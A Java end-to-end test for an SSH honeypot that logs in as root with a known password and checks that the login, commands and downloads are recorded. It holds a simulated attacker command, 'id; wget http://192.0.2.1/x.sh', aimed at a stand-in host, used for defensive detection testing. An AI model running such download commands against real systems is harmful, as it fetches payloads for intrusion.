package io.honeybee.app.endtoend.pots;

import static org.assertj.core.api.Assertions.assertThat;

import io.honeybee.app.endtoend.PotsOnManager;
import io.honeybee.app.endtoend.PotsOnManager.Fleet;
import io.honeybee.app.endtoend.PotsOnManager.Installed;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import tools.jackson.databind.JsonNode;

/** Pots with a shell, installed by the manager and attacked by real clients. */
@ExtendWith(PotsOnManager.class)
class ShellPotsEndToEndTest {

  @Test
  void sshLoginAndCommandsAreOnTheManager(Fleet fleet) throws Exception {
    Installed pot = fleet.install("ssh", Map.of("login", "list:root/hunter2"));
    String output =
        Fleet.run(
            "",
            "sshpass",
            "-p",
            "hunter2",
            "ssh",
            "-F",
            "/dev/null",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-p",
            Integer.toString(pot.port()),
            "root@127.0.0.1",
            "id; wget http://192.0.2.1/x.sh");
    assertThat(output).contains("uid=0(root)");
    JsonNode login = fleet.await(pot, "ssh.login.success", data -> true);
    assertThat(login.path("data").path("username").asString()).isEqualTo("root");
    assertThat(login.path("data").path("password").asString()).isEqualTo("hunter2");
    assertThat(login.path("data").path("threat_technique_id").toString())
        .isEqualTo("[\"T1110.001\",\"T1078\"]");
    fleet.await(
        pot, "ssh.command.input", data -> data.path("input").asString().startsWith("id; wget"));
    fleet.await(
        pot,
        "ssh.session.file_download",
        data -> data.path("url").asString().equals("http://192.0.2.1/x.sh"));
    fleet.await(pot, "ssh.session.closed", data -> data.path("duration_ms").longValue() > 0);
  }
}
